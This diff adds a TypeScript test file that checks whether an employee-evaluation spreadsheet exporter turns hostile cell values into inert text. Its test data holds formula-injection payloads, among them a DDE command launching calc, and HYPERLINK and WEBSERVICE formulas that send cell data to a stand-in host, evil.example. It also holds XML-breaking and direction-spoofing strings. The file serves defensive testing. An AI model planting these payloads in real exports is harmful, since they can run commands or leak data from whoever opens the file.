@@ -1,0 +1,173 @@
+import './sheetjsGlobals';
+import { read, type CellObject, type WorkBook } from 'sheetjs-style';
+import { decodeEmployee } from '../../../api/decode/answers';
+import { decodeStatistics } from '../../../api/decode/evaluationAnswers';
+import { toExportRow, type ExportRow } from './exportRows';
+import { toWorkbook } from './workbook';
+
+const row: ExportRow = {
+  Name: 'Grace Hopper',
+  Email: 'grace.hopper@example.com',
+  Role: 'Employee',
+  Total_Evaluations: 4,
+  Average_Score: 7.25,
+  Max_Score: 9,
+  Min_Score: 5,
+};
+
+interface Unzipped extends WorkBook {
+  files?: Record<string, { asUint8Array: () => Uint8Array }>;
+}
+
+/** A file of the workbook, which has to be well-formed XML in sound UTF-8. */
+function part({ files = {} }: Unzipped, name: string): Document {
+  const file = files[name];
+  if (!file) throw new Error(`The workbook has no ${name}`);
+  const xml = new TextDecoder('utf-8', { fatal: true }).decode(file.asUint8Array());
+  const parsed = new DOMParser().parseFromString(xml, 'application/xml');
+  const [failure] = parsed.getElementsByTagName('parsererror');
+  if (failure) throw new Error(`${name}: ${failure.textContent}`);
+  return parsed;
+}
+
+/** A cell of the first employee as another program reads it, and as it stands in the file. */
+function written(values: object, address = 'A2') {
+  const bytes = toWorkbook([Object.assign({ ...row }, values)]);
+  const book: Unzipped = read(bytes, { type: 'array', cellFormula: true, bookFiles: true });
+  const sheet = part(book, 'xl/worksheets/sheet1.xml');
+  const texts = part(book, 'xl/sharedStrings.xml').getElementsByTagName('t');
+  const element = sheet.querySelector(`c[r="${address}"]`);
+  const type = element?.getAttribute('t') ?? 'n';
+  const value = element?.querySelector('v')?.textContent ?? '';
+  const found: unknown = book.Sheets['Employee Evaluations']?.[address];
+  return {
+    cell: Object.assign<Partial<CellObject>, unknown>({}, found),
+    type,
+    /** Between the tags. */
+    text: type === 's' ? (texts[Number(value)]?.textContent ?? '') : value,
+    formulas: sheet.querySelectorAll('f, hyperlink').length,
+  };
+}
+
+test.each([
+  ['=1+1'],
+  ['+1'],
+  ['-1'],
+  ['@SUM(A1)'],
+  ['\t=1+1'],
+  ['\r=1+1'],
+  ['\n=1+1'],
+  [' =1+1'],
+  ['\ufeff=1+1'],
+  ['＝1+1'],
+  ['%0A=1+1'],
+  ["'=1+1"],
+  [';=1+1'],
+  ['|calc'],
+  ['=cmd|"/c calc"!A0'],
+  ['=HYPERLINK("https://evil.example","Click")'],
+  ['=WEBSERVICE("https://evil.example/"&A1)'],
+  ['{=1+1}'],
+  ['https://evil.example'],
+  ['mailto:a@example.com'],
+  ['</t></si><si><t>'],
+  ['<f>1+1</f>'],
+  [']]>'],
+  ['<![CDATA[=1+1]]>'],
+  ['&lt;&#61;1+1'],
+  ['#REF!'],
+  ['TRUE'],
+  ['1e5'],
+  ['00123'],
+  ['2024-03-01'],
+  ['_x0041_'],
+  ['_x003D_1+1'],
+  ['_x0041_x0042_'],
+  ['_x005F_'],
+  ['__proto__'],
+  [' blanks '],
+])('%p is a text cell that says so, without formula or link', (text) => {
+  const { cell, type, formulas } = written({ Name: text });
+  expect([type, cell.t, cell.v]).toEqual(['s', 's', text]);
+  expect(cell).not.toHaveProperty('f');
+  expect(cell).not.toHaveProperty('l');
+  expect(formulas).toBe(0);
+});
+
+test.each([
+  ['half a character', 'Ada \ud83d', 'Ada \ufffd'],
+  ['the other half', '\ude00 Ada', '\ufffd Ada'],
+  ['halves in the wrong order', '\ude00\ud83d', '\ufffd\ufffd'],
+  ['what is no character', 'A\ufffeB\uffff', 'A\ufffdB\ufffd'],
+  ['a character beyond the first 65,536', '😀\u{10fffd}', '😀\u{10fffd}'],
+  ['control characters', 'A\0\x01\x08\x0b\x0c\x1bB', 'A\0\x01\x08\x0b\x0c\x1bB'],
+  ['control characters of the upper range', 'A\x7f\x85\x9f', 'A\x7f\x85\x9f'],
+  ['separators of lines', 'A\u2028B\u2029', 'A\u2028B\u2029'],
+  ['marks of direction', '\u202egnp.exe\u2066', '\u202egnp.exe\u2066'],
+  ['as much as a cell holds', 'x'.repeat(32_767), 'x'.repeat(32_767)],
+  ['one character more', 'x'.repeat(32_768), 'x'.repeat(32_767)],
+  ['a million characters', 'x'.repeat(1e6), 'x'.repeat(32_767)],
+  ['an emoji over the end', `${'x'.repeat(32_766)}😀`, 'x'.repeat(32_766)],
+  ['an emoji at the end', `${'x'.repeat(32_765)}😀`, `${'x'.repeat(32_765)}😀`],
+  ['a million halves', '\ud83d'.repeat(1e6), '\ufffd'.repeat(32_767)],
+])('%s do not spoil the file', (_what, text, read) => {
+  const { cell, formulas } = written({ Name: text, Email: text });
+  expect(cell).toMatchObject({ t: 's', v: read });
+  expect(formulas).toBe(0);
+});
+
+test('control characters are written as the format says, and what looks like one is told apart', () => {
+  expect(written({ Name: 'A\x01\r' }).text).toBe('A_x0001__x000d_');
+  expect(written({ Name: '_x0041_' }).text).toBe('_x005F_x0041_');
+});
+
+test.each([
+  ['not a number', Number.NaN],
+  ['endless', Infinity],
+  ['endless downwards', -Infinity],
+  ['missing', undefined],
+  ['null', null],
+  ['true', true],
+  ['a list', [1, 2]],
+  ['a formula', { t: 'n', f: '1+1', v: 2 }],
+  ['a formula over cells', { t: 'n', f: '1+1', F: 'A1:A9' }],
+  ['a link', { v: 'Grace', l: { Target: 'https://evil.example' } }],
+  ['a text that is made when asked for', { toString: () => '=1+1' }],
+])('a value that is %s is N/A in any column', (_what, value) => {
+  for (const [name, address] of [
+    ['Name', 'A2'],
+    ['Average_Score', 'E2'],
+  ] as const) {
+    const { cell, type, formulas } = written({ [name]: value }, address);
+    expect([type, cell.t, cell.v]).toEqual(['s', 's', 'N/A']);
+    expect(cell).not.toHaveProperty('f');
+    expect(cell).not.toHaveProperty('l');
+    expect(formulas).toBe(0);
+  }
+});
+
+test.each([
+  [0, '0'],
+  [-0, '0'],
+  [7.25, '7.25'],
+  [1e21, '1e+21'],
+  [5e-324, '5e-324'],
+  [Number.MAX_SAFE_INTEGER, '9007199254740991'],
+])('the number %p is a number cell', (value, text) => {
+  const { cell, ...file } = written({ Average_Score: value }, 'E2');
+  expect(cell).toMatchObject({ t: 'n' });
+  expect(file).toEqual({ type: 'n', text, formulas: 0 });
+});
+
+test('what a server says instead of texts and numbers is N/A', () => {
+  const formula = { f: '1+1', t: 'n', v: 2 };
+  const employee = decodeEmployee({ _id: '1', name: formula, email: ['=1+1'], role: '=1+1' });
+  const statistics = decodeStatistics({
+    totalEvaluations: '=1',
+    averageScore: formula,
+    maxScore: NaN,
+  });
+  if (!employee) throw new Error('An employee with an id is one');
+  const missing = Array.from({ length: 7 }, () => 'N/A');
+  expect(Object.values(toExportRow(employee, statistics))).toEqual(missing);
+});
